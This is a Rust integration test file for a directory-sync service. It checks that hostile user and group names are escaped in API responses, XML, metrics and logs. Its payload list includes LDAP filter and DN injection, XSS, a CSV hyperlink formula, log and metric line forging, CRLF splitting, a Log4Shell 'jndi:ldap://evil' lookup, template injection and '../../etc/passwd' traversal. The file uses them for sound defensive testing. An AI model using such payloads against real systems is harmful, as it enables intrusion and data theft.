//! Names that try to break out of their context: which of them a real controller accepts, and how
//! they appear in the log, in metrics and in every response.

use std::fmt::Write;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use quick_xml::events::Event;
use rollcall_identity::Name;
use rollcall_wire::active_directory::ObjectProblem;
use serde_json::json;

use super::sync::{Reader, SEALED, staff, until, with_member};
use crate::harness::{Controller, PASSWORD, Server, Setup, Srx, enforcement_point};

/// Hostile names for filters, distinguished names, logs, terminals, web pages, JSON, XML, CSV,
/// label values of Prometheus, and readers (bidirectional text).
const HOSTILE: [&str; 21] = [
    "*)(objectClass=*",
    "a)(|(cn=*",
    "\\2a\\29",
    "x,DC=evil,DC=org",
    "+CN=other",
    "\"},{\"roles\":[\"Domain Admins\"]",
    "<script>alert(1)</script>",
    "]]><!DOCTYPE a>",
    "=HYPERLINK(\"http://evil\")",
    "a\",b=\"c",
    "} 1\nrollcall_forged_total 1",
    "a\nFORGED line",
    "a\r\nHTTP/1.1 200 OK",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{202e}gnp.exe",
    "a\ttab",
    "a\0nothing",
    "%00%0a${jndi:ldap://evil}",
    "{{7*7}}",
    "../../etc/passwd",
    "\u{feff}\u{200b}",
];

/// The number of copies of each name: about a thousand users and groups have hostile names.
const COPIES: usize = 25;

/// The hostile name `number` with the number of the copy.
fn name(number: usize, copy: usize) -> String {
    format!("{} {copy}", HOSTILE[number])
}

/// The name of the group. Characters that a controller rejects in account names are replaced.
fn group(number: usize, copy: usize) -> String {
    let forbidden = |letter: char| letter.is_control() || "\"/\\[]:;|=,+*?<>".contains(letter);
    format!("g{}", name(number, copy).replace(forbidden, "_"))
}

fn every() -> impl Iterator<Item = (usize, usize)> {
    (0..COPIES).flat_map(|copy| (0..HOSTILE.len()).map(move |number| (number, copy)))
}

fn base64(text: &str) -> String {
    BASE64_STANDARD.encode(text)
}

/// The distinguished name of an object with the name `name`, each byte escaped (RFC 4514 section
/// 2.4).
fn escaped_dn(name: &str) -> String {
    let mut escaped = String::new();
    name.bytes().for_each(|byte| write!(escaped, "\\{byte:02x}").unwrap());
    staff(&escaped)
}

fn added(dn: &str, attributes: &str) -> String {
    format!("dn:: {}\nchangetype: add\n{attributes}\n", base64(dn))
}

/// LDIF of a user and a group for each name: the user has it as display name and in its
/// distinguished name, and the group has it as name and the user as member.
fn hostile() -> String {
    let mut ldif = String::new();
    for (number, copy) in every() {
        let user = format!("z{copy}x{number}");
        // Samba compares distinguished names only up to a NUL.
        let dn = escaped_dn(&format!("{user} {}", HOSTILE[number]));
        let text = base64(&name(number, copy));
        let person = format!(
            "objectClass: user\nsAMAccountName: {user}\nuserAccountControl: 544\n\
             displayName:: {text}\n"
        );
        let members = format!(
            "objectClass: group\nsAMAccountName:: {}\nmember:: {}\n",
            base64(&group(number, copy)),
            base64(&dn)
        );
        let group_dn = format!("CN=g{copy}x{number},OU=Groups,{}", Controller::BASE);
        ldif += &format!("{}\n{}\n", added(&dn, &person), added(&group_dn, &members));
    }
    ldif
}

/// LDIF of a user whose distinguished name is longer than 4 KB.
fn deeply_nested() -> String {
    let (mut ldif, mut parent) = (String::new(), format!("OU=Staff,{}", Controller::BASE));
    for depth in 0..64 {
        parent = format!("OU={}{depth:02},{parent}", "d".repeat(60));
        ldif += &format!("{}\n", added(&parent, "objectClass: organizationalUnit\n"));
    }
    let dn = format!("CN=deep,{parent}");
    assert!(dn.len() > 4096);
    ldif + &added(&dn, "objectClass: user\nsAMAccountName: deep\nuserAccountControl: 544\n")
}

/// The controller itself rejects characters in account names that could break out of a filter, a
/// distinguished name or a line, and values that are not UTF-8.
fn verify_rejected_by_controller(controller: &Controller) {
    for bad in ["*)(cn=*", "a|b", "a\\b", "a,b", "a\"b", "a<b", "a\nb", "a\rb", "\u{1b}[2J", "a:b"]
    {
        let name = format!("objectClass: user\nsAMAccountName:: {}\n", base64(bad));
        let why = controller.modify_refused(&added(&staff("refused"), &name));
        assert!(why.contains("sAMAccountName contains invalid"), "{bad:?}: {why}");
    }
    let no_text = BASE64_STANDARD.encode([0xff, 0xfe, 0x80]);
    for value in [no_text, base64(&"z".repeat(300))] {
        let person = format!("objectClass: user\nsAMAccountName: r\ndisplayName:: {value}\n");
        let why = controller.modify_refused(&added(&staff("refused"), &person));
        assert!(why.contains("contains at least one invalid value"), "{why}");
    }
}

/// LDIF of values that only a damaged database can contain.
fn damaged() -> String {
    let of = |dn: &str, attribute: &str, value: &[u8]| {
        let value = BASE64_STANDARD.encode(value);
        format!("dn: {dn}\nchangetype: modify\nreplace: {attribute}\n{attribute}:: {value}\n\n")
    };
    let computer = format!("CN=DC1,OU=Domain Controllers,{}", Controller::BASE);
    of(&staff("Bob"), "sAMAccountName", b"a\nFORGED")
        + &of(&computer, "operatingSystem", &[0xff, 0xfe, 0x80])
}

/// `text` percent-encoded for a query.
fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn is_unusable(name: &str) -> bool {
    Name::new(name).is_err()
}

#[test]
fn a_thousand_hostile_names_are_escaped_in_every_response_and_the_log() {
    let story = "a_thousand_hostile_names_are_escaped_in_every_response_and_the_log";
    let Some(controller) = Controller::small(story) else { return };
    verify_rejected_by_controller(&controller);
    controller.modify(&hostile());
    controller.modify(&deeply_nested());
    controller.stop();
    controller.corrupt(&damaged());
    controller.start_again();
    let section = controller.section(SEALED);
    let xml = enforcement_point("xml-fw", "[enforcement.points.dialect]\nformat = \"xml\"");
    let setup = Setup::new().replacing("level = \"debug\"", "level = \"trace\"");
    let setup = setup.with(&xml).with_secret("password", PASSWORD).with(&section);
    let server = Server::start(setup);
    let total = |path: &str| server.get(path).json()["total"].as_u64();
    let people = (COPIES * HOSTILE.len()) as u64;
    until("all users are read", || (total("/api/v1/users?prefix=z") == Some(people)).then_some(()));
    assert_eq!(total("/api/v1/users?prefix=carol"), Some(1), "other users are also read");
    verify_problem_counts(&server);
    verify_rest_responses(&server, &total);
    verify_firewall_entries(&server);
    for text in server.metrics().texts() {
        for part in ["evil", "FORGED", "forged", "script", "z0x"] {
            assert!(!text.contains(part), "{text}");
        }
    }
    let log = server.stop();
    assert!(log.contains("TRACE"), "the log has trace level");
    for line in log.lines() {
        assert!(line.starts_with("20"), "each line begins with its time: {line:?}");
    }
    let is_control = |letter: char| letter != '\n' && is_unusable(&format!("a{letter}b"));
    assert!(
        !log.contains(is_control),
        "the log has no control, bidirectional or invisible characters"
    );
}

/// Control and invisible characters are invalid in names. An optional name with them is omitted.
fn verify_problem_counts(server: &Server) {
    let displayed = every().filter(|(number, copy)| is_unusable(&name(*number, *copy))).count();
    let groups = every().filter(|(number, copy)| is_unusable(&group(*number, *copy))).count();
    assert_eq!((displayed, groups), (8 * COPIES, 2 * COPIES));
    let expected = [
        // Bob is included: his account name is invalid.
        ("bad_text", (displayed + groups + 1) as u64),
        ("no_name", (groups + 1) as u64),
        ("long_dn", 1),
        ("not_utf8", 1),
    ];
    until("each problem is counted once", || {
        let metrics = server.metrics();
        let counted = |problem| {
            let labels = [("producer", "corp"), ("problem", problem)];
            metrics.sum("rollcall_directory_problems_total", &labels)
        };
        expected.iter().all(|(problem, count)| counted(problem) == *count).then_some(())
    });
    let directories = server.get("/api/v1/directories").json();
    assert_eq!(directories[0]["state"], "current", "{directories}");
    assert_eq!(directories[0]["problems"]["long_dn"], 1, "{directories}");
}

fn verify_rest_responses(server: &Server, total: &impl Fn(&str) -> Option<u64>) {
    // Filter characters in a name have no effect.
    let prefix = escaped("*)(objectClass=*");
    assert_eq!(total(&format!("/api/v1/users?prefix={prefix}")), Some(0));
    let prefix = escaped(&group(0, 0)[..11]);
    assert_eq!(total(&format!("/api/v1/groups?prefix={prefix}")), Some(COPIES as u64));
    for (number, text) in HOSTILE.iter().enumerate() {
        let shown = server.get(&format!("/api/v1/users?prefix=z3x{number}")).json();
        let shown = &shown["accounts"][0]["display"];
        let displayed = Name::new(&name(number, 3)).ok();
        assert_eq!(shown.as_str(), displayed.as_ref().map(Name::as_str), "{text:?}");
        let named = Name::new(&group(number, 3)).ok();
        let explained = server.get(&format!("/api/v1/users/z3x{number}/groups?explain")).json();
        let direct = explained["groups"].as_array().unwrap().iter().find(|found| {
            found["path"].as_array().is_some_and(|path| path.len() == 1)
                && found["name"].as_str() == named.as_ref().map(Name::as_str)
        });
        assert_eq!(direct.is_some(), named.is_some(), "{text:?}: {explained}");
    }
}

fn verify_firewall_entries(server: &Server) {
    let (mut firewall, mut script) = (server.client("campus-fw"), server.client("script"));
    let address = |number: usize| format!("10.71.0.{}", number + 1);
    for number in 0..HOSTILE.len() {
        let user = format!("CORP\\z0x{number}");
        let login = json!({"kind": "login", "address": address(number), "user": user});
        assert_eq!(script.post_events(&login).status, 200);
    }
    firewall.poll();
    assert_eq!(firewall.table().len(), HOSTILE.len());
    for (number, text) in HOSTILE.iter().enumerate() {
        let entry = &firewall.table()[&address(number)];
        let group_name = Name::new(&group(number, 0)).ok().map(|name| name.to_string());
        let mut expected = vec!["Domain Users".to_owned(), "Users".to_owned()];
        expected.extend(group_name);
        expected.sort();
        let mut roles = entry.roles.clone();
        roles.sort();
        assert_eq!(roles, expected, "{text:?}");
    }
    verify_xml_response(&mut server.client("xml-fw"));
}

/// The XML response is well-formed, and its texts are the names.
fn verify_xml_response(firewall: &mut Srx) {
    let answer = firewall.ask(0, "?begintime=0").unwrap().text;
    let mut reader = quick_xml::Reader::from_str(&answer);
    let (mut texts, mut text) = (Vec::new(), String::new());
    loop {
        match reader.read_event().unwrap() {
            Event::Text(part) => text += &part,
            Event::GeneralRef(name) => {
                text += &quick_xml::escape::unescape(&format!("&{};", &*name)).unwrap();
            }
            Event::Start(_) | Event::End(_) => texts.push(std::mem::take(&mut text)),
            Event::Eof => break,
            Event::Decl(_) | Event::Empty(_) => {}
            other => panic!("unexpected {other:?} in {answer}"),
        }
    }
    for number in (0..HOSTILE.len()).filter(|number| !is_unusable(&group(*number, 0))) {
        let name = Name::new(&group(number, 0)).unwrap().to_string();
        assert_eq!(texts.iter().filter(|text| **text == name).count(), 1, "{name:?}: {texts:?}");
    }
}

#[test]
fn an_object_that_becomes_unreadable_keeps_its_last_state() {
    let story = "an_object_that_becomes_unreadable_keeps_its_last_state";
    let Some(controller) = Controller::small(story) else { return };
    let reader = Reader::start(&controller, SEALED);
    reader.until_read();
    controller.stop();
    controller.corrupt(&damaged());
    controller.set_invocation();
    controller.start_again();
    until("the full resync is complete", || (reader.full_reads() == 2).then_some(()));
    assert!(reader.user_at("bob").is_some(), "bob is not deleted");
    until("the problem is reported", || {
        let problems = reader.status().problems;
        (problems.get(&ObjectProblem::NoName) == Some(&1)).then_some(())
    });
    // The deletion scan of an ordinary account still finds him.
    controller.modify(&with_member("everyone-here", "add", &staff("Alice")));
    until("changes are applied", || {
        reader.groups("alice").contains(&"everyone-here".to_owned()).then_some(())
    });
    assert!(reader.user_at("bob").is_some());
}

#[test]
fn a_base_with_filter_characters_in_its_name_is_read() {
    let story = "a_base_with_filter_characters_in_its_name_is_read";
    let Some(controller) = Controller::small(story) else { return };
    let unit = |name: &str| format!("OU={name},{}", Controller::BASE);
    // `we (all) * \ "us", + co` as RFC 4514 escapes it.
    let base = unit("we (all) * \\\\ \\\"us\\\"\\, \\+ co");
    controller.modify(&added(&base, "objectClass: organizationalUnit\n"));
    let person = "objectClass: user\nsAMAccountName: inside\nuserAccountControl: 544\n";
    controller.modify(&added(&format!("CN=in side,{base}"), person));
    let bases = toml_list(&[&base, &unit("Groups")]);
    let reader = Reader::start(&controller, &format!("{SEALED}search_bases = {bases}\n"));
    reader.until_read();
    assert!(reader.user_at("inside").is_some() && reader.user_at("alice").is_none());
    // Changes below the base are recognized, whatever escaping the controller uses.
    controller.modify(&with_member("everyone-here", "add", &format!("CN=in side,{base}")));
    until("a change below the base is applied", || {
        reader.groups("inside").contains(&"everyone-here".to_owned()).then_some(())
    });
    let later = "objectClass: user\nsAMAccountName: later\nuserAccountControl: 544\n";
    controller.modify(&added(&format!("CN=later,{base}"), later));
    until("a new account below the base is known", || reader.user_at("later").map(drop));
    assert_eq!(reader.full_reads(), 1);
}

fn toml_list(texts: &[&str]) -> String {
    let quoted: Vec<String> = texts.iter().map(|text| format!("'{text}'")).collect();
    format!("[{}]", quoted.join(", "))
}
